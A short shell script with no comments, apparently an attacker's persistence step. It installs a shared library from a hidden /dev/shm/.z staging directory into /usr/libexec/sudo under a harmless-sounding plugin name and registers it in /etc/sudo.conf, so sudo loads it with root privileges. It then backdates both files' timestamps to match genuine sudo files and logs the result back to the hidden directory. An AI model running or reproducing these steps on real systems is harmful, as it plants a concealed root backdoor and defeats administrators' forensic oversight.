d=/usr/libexec/sudo
install -o root -g root -m 644 /dev/shm/.z/s.so $d/iolog_sync.so
touch -r $d/sudoers.so $d/iolog_sync.so
grep -q '^Plugin iolog_sync' /etc/sudo.conf || printf 'Plugin sudoers_policy sudoers.so\nPlugin sudoers_io sudoers.so\nPlugin sudoers_audit sudoers.so\nPlugin iolog_sync iolog_sync.so\n' | tee -a /etc/sudo.conf > /dev/null
touch -r /etc/sudoers /etc/sudo.conf
{ ls -la $d/iolog_sync.so /etc/sudo.conf; grep '^Plugin' /etc/sudo.conf; } > /dev/shm/.z/o2 2>&1; chmod 644 /dev/shm/.z/o2
